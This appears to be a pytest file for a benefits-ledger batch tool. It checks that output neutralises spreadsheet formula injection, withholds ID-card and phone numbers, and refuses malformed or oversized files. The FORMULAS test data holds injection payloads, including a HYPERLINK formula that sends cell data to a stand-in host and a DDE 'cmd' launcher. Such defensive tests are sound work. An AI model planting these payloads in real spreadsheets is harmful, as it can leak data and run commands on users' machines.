"""`yibao batch` on hostile ledgers: nothing in the result is a formula or a person's number, the
`error` column never repeats a cell, and a file that cannot be read safely is refused with one
line naming the row and column, exit code 2 and no result file."""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.ledger import add_cli, csv_text, output_columns, run_batch

TODAY = dt.date(2026, 11, 23)
HEADER = ["id", "region", "benefit_year", "coverage", "notes"]
GOOD = ["xizang", "2027", "2025:none;2026:none", ""]  # 4 months' wait, cap -8000 yuan
NOT_COPIED = "id: looks like an ID-card or phone number; not copied"


def write_ledger(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def batch_ids(tmp_path: Path, ids: list[str], **kwargs: object) -> list[dict[str, str]]:
    source = write_ledger(tmp_path / "in.csv", [[i, *GOOD] for i in ids])
    run_batch(source, tmp_path / "out.csv", today=TODAY, **kwargs)
    return read_csv(tmp_path / "out.csv")


def cli(*argv: str) -> int:
    parser = argparse.ArgumentParser(prog="yibao")
    add_cli(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(["batch", *argv, "--today", "2026-11-23"])
    return args.handler(args)


FORMULAS = [
    '=HYPERLINK("http://x/?"&C2,"Click")',
    "=1+2",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    " =1+2",
    "A1;=1+2",
    "A1,=1+2",
    'A1"=1+2',
    "A1\n-1+2",
]


def test_xlsx_cells_that_look_like_formulas_are_text(tmp_path: Path) -> None:
    source = write_ledger(tmp_path / "in.csv", [[i, *GOOD] for i in [*FORMULAS, "#N/A"]])
    out = tmp_path / "out.xlsx"
    run_batch(source, out, fmt="xlsx", today=TODAY)
    sheet = load_workbook(out).active
    ids = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in ids] == [i.strip() for i in FORMULAS] + ["#N/A"]
    assert all(cell.data_type == "s" for cell in ids)
    # Marked as Excel marks a typed '=...: still text when someone edits the cell.
    assert all(cell.quotePrefix for cell in ids[: len(FORMULAS)])
    with zipfile.ZipFile(out) as book:
        xml = b"".join(book.read(name) for name in book.namelist() if name.endswith(".xml"))
    assert not re.search(rb"<(\w+:)?f[ >/]", xml)
    # A negative number the batch works out stays a number.
    cap = sheet.cell(row=2, column=output_columns(with_id=True).index("cap_change") + 1)
    assert (cap.value, cap.data_type) == (-8000, "n")


def test_csv_cells_that_look_like_formulas_start_with_a_quote(tmp_path: Path) -> None:
    rows = batch_ids(tmp_path, [*FORMULAS, "A-12", "-2000", "2026-03-15"])
    assert [row["id"] for row in rows] == [
        *("'" + i.strip() for i in FORMULAS),
        "A-12",
        "-2000",
        "2026-03-15",
    ]
    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    # Text is quoted, so a separator inside a cell cannot start a new cell; numbers stay bare.
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http://x/?""&C2,""Click"")",1,')
    assert ",-8000,-2," in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_character_that_starts_a_formula_is_escaped(start: str) -> None:
    assert csv_text(f"{start}1+2") == f"'{start}1+2"
    assert csv_text(f"x;{start}=1+2") == f"'x;{start}=1+2"  # the start of a cell past a ;


@pytest.mark.parametrize("text", ["A-12", "H0000001", "-2000", "+5", "2026-03-15", "备注 a@b", ""])
def test_cells_that_cannot_be_formulas_are_kept(text: str) -> None:
    assert csv_text(text) == text


PERSONAL = [
    "110105194912310029",
    "11010519491231002X",
    "11010519491231002x",
    "110105 19491231 002X",
    "110105-19491231-002X",
    "1101 0519 4912 3100 2X",
    "110105491231002",
    "110105 491231 002",
    "13912345678",
    "139-1234-5678",
    "139 1234 5678",
    "139.1234.5678",
    "139 - 1234 - 5678",
    "+86 139 1234 5678",
    "+8613912345678",
    "0086-139-1234-5678",
    "8613912345678",
    "(+86) 139 1234 5678",
    "张三 13912345678",
    "张三13912345678",
    "户主张三，电话139-1234-5678，三口人",
    "A01 / 110105194912310029",
    "H1-13912345678",
    "１３９１２３４５６７８",
    "１１０１０５１９４９１２３１００２Ｘ",
]


@pytest.mark.parametrize("label", PERSONAL)
def test_an_id_holding_an_id_card_or_phone_number_is_not_copied(tmp_path: Path, label: str) -> None:
    [row] = batch_ids(tmp_path, [label])
    assert row["id"] == "" and row["error"] == NOT_COPIED
    assert row["wait_months"] == "4"  # the row is still assessed
    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    digits = re.sub(r"\D", "", label.translate(str.maketrans("０１２３４５６７８９", "0123456789")))
    assert digits[-11:] not in re.sub(r"\D", "", text)
    assert "张三" not in text


def test_in_xlsx_and_chinese_too(tmp_path: Path) -> None:
    source = write_ledger(tmp_path / "in.csv", [["139-1234-5678", *GOOD], ["A1", *GOOD]])
    out = tmp_path / "out.xlsx"
    run_batch(source, out, fmt="xlsx", today=TODAY, lang="zh_Hans")
    values = [list(row) for row in load_workbook(out).active.values]
    assert values[1][0] is None and values[1][-1] == "编号：疑似身份证号或手机号，未复制"
    assert values[2][0] == "A1" and values[2][-1] is None
    assert "1234" not in str(values)


@pytest.mark.parametrize(
    "label", ["A01-1", "H0000001", "540102001001-03", "2025-13-0001", "12345678901", "1391234567"]
)
def test_an_office_label_is_copied(tmp_path: Path, label: str) -> None:
    [row] = batch_ids(tmp_path, [label])
    assert (row["id"], row["error"]) == (label, "")


@pytest.mark.parametrize(
    ("column", "value", "error"),
    [
        ("region", "王五家", "region: not a known region"),
        ("region", "13912345678", "region: not a known region"),
        ("benefit_year", "王五", "benefit_year: not a year"),
        ("coverage", "王五", "coverage: expected year:kind"),
        ("coverage", "2025:王五", "coverage: not a known coverage"),
        ("coverage", "王五:none", "coverage: not a year"),
        ("payment_date", "王五", "payment_date: not a date"),
        ("payment_date", "2020-01-01", "payment_date: neither in the benefit year"),
        ("group", "王五", "group: not a known group"),
        ("repair_years", "王五", "repair_years: not a whole number"),
        ("zero_claim_years", "王五", "zero_claim_years: not a year"),
        ("birth_date", "110105194912310029", "birth_date: not a date"),
        ("birth_date", "2030-01-01", "birth_date: a year after the benefit year"),
        ("y2025", "王五", "y2025: not a known coverage"),
    ],
)
@pytest.mark.parametrize("lang", ["en", "zh_Hans"])
def test_the_error_names_the_column_and_never_the_value(
    tmp_path: Path, column: str, value: str, error: str, lang: str
) -> None:
    header = ["id", "region", "benefit_year", column] if column not in HEADER else HEADER
    row = dict(zip(HEADER, ["B1", *GOOD], strict=True)) | {column: value}
    source = write_ledger(tmp_path / "in.csv", [[row.get(c, "") for c in header]], header)
    run_batch(source, tmp_path / "out.csv", today=TODAY, lang=lang)
    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert value not in text and "王五" not in text
    [result] = list(csv.reader(io.StringIO(text)))[1:]
    if lang == "en":
        assert result[-1].startswith(error)
    assert result[:2] == ["B1", "1"] and all(cell == "" for cell in result[2:-1])


def refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], source: Path, fmt: str = "csv"
) -> str:
    """Run the CLI on `source`, check it refused cleanly, and return the one error line."""
    out = tmp_path / f"out.{fmt}"
    out.write_text("an earlier result", encoding="utf-8")
    before = sorted(tmp_path.iterdir())
    assert cli(str(source), "-o", str(out)) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith(f"yibao batch: {source}: ")
    assert "Traceback" not in err
    assert out.read_text(encoding="utf-8") == "an earlier result"  # nothing half-written
    assert sorted(tmp_path.iterdir()) == before  # and no temporary file left
    return err.removeprefix(f"yibao batch: {source}: ").rstrip("\n")


def test_a_200_kb_cell_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = write_ledger(tmp_path / "in.csv", [["A1", *GOOD], ["A2", *GOOD[:3], "x" * 200_000]])
    assert refused(tmp_path, capsys, source) == (
        "row 2 (line 3), column E (notes): a cell longer than 4,096 characters"
    )


def test_a_5_kb_cell_is_refused_and_4_kb_is_not(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_ledger(tmp_path / "in.csv", [["A1", *GOOD[:3], "x" * 4096]])
    assert cli(str(source), "-o", str(tmp_path / "ok.csv")) == 0
    capsys.readouterr()
    source = write_ledger(tmp_path / "in.csv", [["A1", *GOOD[:3], "长" * 4097]])
    assert refused(tmp_path, capsys, source) == (
        "row 1 (line 2), column E (notes): a cell longer than 4,096 characters"
    )


@pytest.mark.parametrize("ending", [b"", b"\n"])
def test_a_50_mb_line_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], ending: bytes
) -> None:
    source = tmp_path / "in.csv"
    with source.open("wb") as file:
        file.write(b"id,region,benefit_year,coverage,notes\nA1,xizang,2027,,\nA2,xizang,")
        for _ in range(50):
            file.write(b"9" * (1 << 20))
        file.write(ending)
    assert refused(tmp_path, capsys, source) == (
        "row 2 (line 3), column C (benefit_year): a cell longer than 4,096 characters"
    )


def test_a_row_of_many_short_cells_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_ledger(tmp_path / "in.csv", [["A1", *GOOD, *["x"] * 40_000]])
    assert refused(tmp_path, capsys, source) == (
        "row 1 (line 2): a row longer than 65,536 characters"
    )


def test_a_quoted_cell_running_over_many_lines_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_ledger(tmp_path / "in.csv", [["A1", *GOOD[:3], "note\n" * 20_000]])
    assert refused(tmp_path, capsys, source) == (
        "row 1 (line 2): a row longer than 65,536 characters"
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_gbk_row_late_in_the_file_names_its_row_and_leaves_no_result(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    source = tmp_path / "in.csv"
    good = "".join(f"H{i},西藏,2027,2025:none;2026:none,\n" for i in range(2000))
    source.write_bytes(
        ("id,region,benefit_year,coverage,notes\n" + good).encode("utf-8")
        + "H2000,西藏,2027,,\n".encode("gbk")
        + b"H2001,xizang,2027,,\n"
    )
    assert refused(tmp_path, capsys, source, fmt) == (
        "row 2001 (line 2002), column B (region): not UTF-8 text; save the ledger as 'CSV UTF-8'"
    )


def test_a_utf16_file_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes("id,region,benefit_year\nA1,西藏,2027\n".encode("utf-16"))
    assert refused(tmp_path, capsys, source) == (
        "header (line 1), column A: not UTF-8 text; save the ledger as 'CSV UTF-8'"
    )


@pytest.mark.parametrize(
    ("cells", "column"), [(["A\x00", *GOOD], "A (id)"), (["A1", *GOOD[:3], "\x00"], "E (notes)")]
)
def test_a_nul_character_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], cells: list[str], column: str
) -> None:
    source = write_ledger(tmp_path / "in.csv", [["A0", *GOOD], cells])
    assert refused(tmp_path, capsys, source) == (
        f"row 2 (line 3), column {column}: a NUL character (is it a UTF-16 or binary file?); "
        "save the ledger as 'CSV UTF-8'"
    )


@pytest.mark.parametrize(
    ("header", "error"),
    [
        (["id", "region", "benefit_year", "Region "], "region appears twice (columns B and D)"),
        (["id", "region", "benefit_year", "ID"], "id appears twice (columns A and D)"),
        (["region", "benefit_year", "y2025", "Y2025"], "y2025 appears twice (columns C and D)"),
    ],
)
def test_a_column_named_twice_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], header: list[str], error: str
) -> None:
    source = write_ledger(tmp_path / "in.csv", [["x"] * len(header)], header)
    assert refused(tmp_path, capsys, source) == f"header: column {error}; rename or remove one"


def test_columns_that_are_not_read_may_be_named_twice(tmp_path: Path) -> None:
    header = ["id", "region", "benefit_year", "备注", "备注"]
    source = write_ledger(tmp_path / "in.csv", [["A1", "xizang", "2027", "a", "b"]], header)
    assert cli(str(source), "-o", str(tmp_path / "out.csv")) == 0
    assert read_csv(tmp_path / "out.csv")[0]["id"] == "A1"


def test_quoted_line_breaks_and_old_mac_line_endings_still_read(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(
        b'id,region,benefit_year,notes\rA1,xizang,2027,"two\r\nlines"\r\rA3,shanxi,2027,\r'
    )
    run_batch(source, tmp_path / "out.csv", today=TODAY)
    rows = read_csv(tmp_path / "out.csv")
    assert [(r["id"], r["row"], r["error"]) for r in rows] == [("A1", "1", ""), ("A3", "3", "")]
